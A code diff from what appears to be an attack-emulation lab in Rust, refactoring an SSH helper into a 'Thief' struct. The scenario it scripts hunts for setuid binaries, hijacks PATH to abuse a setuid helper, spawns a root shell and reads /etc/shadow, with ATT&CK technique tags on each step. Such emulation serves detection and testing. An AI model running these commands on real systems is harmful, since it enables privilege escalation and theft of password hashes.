@@ -4,7 +4,7 @@
 
 use crate::Lab;
 use crate::life::host_tasks;
-use crate::life::remote::{self, OPTIONS, make_key, quoted};
+use crate::life::remote::{self, Thief, make_key};
 use crate::program::{Program, user};
 use anyhow::{Result, ensure};
 
@@ -31,13 +31,10 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     }
 
     let attack = lab.attack("vulnerable setuid helper");
-    let log_in = |commands: &str| {
-        let line = format!("ssh -i /root/.ssh/key {OPTIONS} alice@{} {}", host.address, quoted(commands));
-        attacker.run("attack.scope", &Program::shell(&line))
-    };
+    let thief = Thief { from: &attacker, key: "/root/.ssh/key", account: "alice", to: &host };
     let step = attack.step("helpers are looked for", &["T1078.003", "T1083"]);
     step.remote(&host, &attacker);
-    let said = log_in(&format!(
+    let said = thief.log_in(&format!(
         "{} find /usr/local /opt -perm -4000 2>/dev/null; strings -n 3 /usr/local/bin/report 2>/dev/null | head -5; true",
         step.mark(&host)?
     ))?;
@@ -56,15 +53,17 @@ pub fn run(lab: &mut Lab) -> Result<()> {
          PATH={folder}:$PATH report; ls -l {copy}",
         step.mark(&host)?
     );
-    let said = log_in(&line)?;
+    let said = thief.log_in(&line)?;
     ensure!(said.contains("rws"), "the helper ran nothing else: {said}");
     drop(step);
     lab.wait(3..6);
 
     let step = attack.step("root is used", &["T1548.001", "T1003.008"]);
     step.remote(&host, &attacker);
-    let said =
-        log_in(&format!("{} {copy} -p -c \"id; cat /etc/shadow | wc -l; rm -r {folder} {copy}\"", step.mark(&host)?))?;
+    let said = thief.log_in(&format!(
+        "{} {copy} -p -c \"id; cat /etc/shadow | wc -l; rm -r {folder} {copy}\"",
+        step.mark(&host)?
+    ))?;
     ensure!(said.contains("euid=0"), "that was not root: {said}");
     drop(step);
     lab.wait(8..14);
